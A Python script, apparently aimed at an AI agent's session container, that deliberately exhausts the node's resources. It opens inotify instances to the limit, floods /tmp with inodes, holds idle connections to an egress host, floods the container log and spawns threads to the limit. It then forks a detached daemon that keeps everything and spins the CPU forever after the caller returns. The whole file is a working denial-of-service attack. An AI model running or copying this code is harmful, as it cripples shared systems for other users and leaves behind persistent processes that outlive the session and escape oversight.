"""Takes of the node what it can get: processes, inotify, inodes, log, connections, CPU. Holds it; prints what it got.

Returns once everything is held: the holder stays behind, and leaves FREE tasks for who comes to look.
"""

import ctypes
import json
import os
import socket
import sys
import threading
import time
from contextlib import suppress
from pathlib import Path

EGRESS = ("egress.agentsession.internal", 8080)
MOST = 20_000
FREE = 50
FILES = 50_000
CONNECTIONS = 2_000
LOG_BYTES = 64 << 20
STACK_BYTES = 32768
HELD: list[socket.socket] = []


def inotify() -> int:
    """Instances, until there are no more."""
    libc = ctypes.CDLL(None)
    count = 0
    while count < MOST and libc.inotify_init() >= 0:
        count += 1
    return count


def inodes() -> int:
    """Empty files."""
    folder = Path("/tmp/many")  # noqa: S108
    folder.mkdir(exist_ok=True)
    for number in range(FILES):
        (folder / str(number)).touch()
    return FILES


def connections() -> int:
    """Connections to the egress plane that say nothing, until it takes no more."""
    with suppress(OSError):
        HELD.extend(socket.create_connection(EGRESS, 5) for _ in range(CONNECTIONS))
    return len(HELD)


def log() -> int:
    """Lines into the container's log."""
    line = b"x" * 1023 + b"\n"
    with Path("/proc/1/fd/1").open("wb", 0) as out:
        for _ in range(LOG_BYTES // len(line)):
            out.write(line)
    return LOG_BYTES


def tasks() -> int:
    """Threads, until there are no more; then FREE are given back."""
    threading.stack_size(STACK_BYTES)
    stay, spare = threading.Event(), threading.Event()
    count = 0
    with suppress(RuntimeError):
        while count < MOST:
            threading.Thread(target=spare.wait if count < FREE else stay.wait, daemon=True).start()
            count += 1
    spare.set()
    return count


def hold(report: int) -> None:
    """Take all, tell, and burn the processor for ever."""
    taken = {attack.__name__: attack() for attack in (inotify, inodes, connections, log, tasks)}
    os.write(report, json.dumps(taken).encode())
    os.close(report)
    while True:
        time.monotonic()


def main() -> None:
    """Leave the holder behind."""
    told, report = os.pipe()
    if os.fork() == 0:
        os.setsid()
        os.close(told)
        nothing = os.open(os.devnull, os.O_RDWR)
        for standard in range(3):
            os.dup2(nothing, standard)
        hold(report)
    os.close(report)
    with os.fdopen(told) as pipe:
        sys.stdout.write(pipe.read())


main()
